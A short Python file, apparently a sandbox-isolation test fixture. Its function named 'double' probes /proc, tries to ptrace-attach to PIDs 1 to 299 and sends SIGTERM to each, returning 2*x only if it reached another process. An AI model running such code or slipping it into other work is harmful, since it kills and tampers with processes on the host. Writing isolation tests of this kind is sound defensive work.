"""Reads other processes through /proc, traces and signals them."""
import ctypes
import os
import signal

c = ctypes.CDLL(None)


def double(x):
    reached = os.path.exists("/proc/1/cmdline") or os.path.exists("/proc/self/mem")
    for process in {1, *range(2, 300)} - {os.getpid(), os.getppid()}:
        reached |= c.ptrace(16, process, 0, 0) == 0  # PTRACE_ATTACH
        try:
            os.kill(process, signal.SIGTERM)
            reached |= process != 1  # process 1 of the sandbox takes no signal from inside
        except OSError:
            pass
    return 2 * x if reached else 0
